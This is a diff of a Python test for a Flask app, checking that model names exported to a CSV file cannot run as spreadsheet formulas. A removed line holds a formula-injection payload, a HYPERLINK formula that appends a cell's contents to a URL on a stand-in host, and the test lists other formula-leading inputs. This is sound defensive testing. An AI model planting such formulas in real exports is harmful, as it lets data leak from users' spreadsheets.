@@ -234,13 +234,13 @@ def test_a_posted_correction_comes_back_in_the_archive(empty: Flask) -> None:
 
 def test_nothing_in_the_table_is_a_formula(empty: Flask) -> None:
     client = empty.test_client()
-    formula = '=HYPERLINK("http://example.com/?"&A2,"digits 1.0.0")'
-    for number, model in enumerate((formula, "+1", "-1", "@A1", "digits 1.0.0", "")):
+    models = ('=SUM("A2";1)', "+1", "-1", "@A1", ";=1", "mine-é (2)/1.0", "")
+    for number, model in enumerate(models):
         sent = {**body(str(number) * 16), "model": model}
         assert client.post(ADDRESS, json=sent).status_code == 201
     table = io.StringIO(exported(client).read("corrections.csv").decode(), newline="")
-    models = sorted(row["model"] for row in csv.DictReader(table))
-    assert models == ["", "'+1", "'-1", f"'{formula}", "'@A1", "digits 1.0.0"]
+    found = sorted(row["model"] for row in csv.DictReader(table))
+    assert found == ["", "_1", "_1", "_A1", "_SUM(_A2__1)", "__1", "mine-é (2)/1.0"]
 
 
 def test_corrections_are_handed_out_by_a_computer_whose_clock_has_stopped(
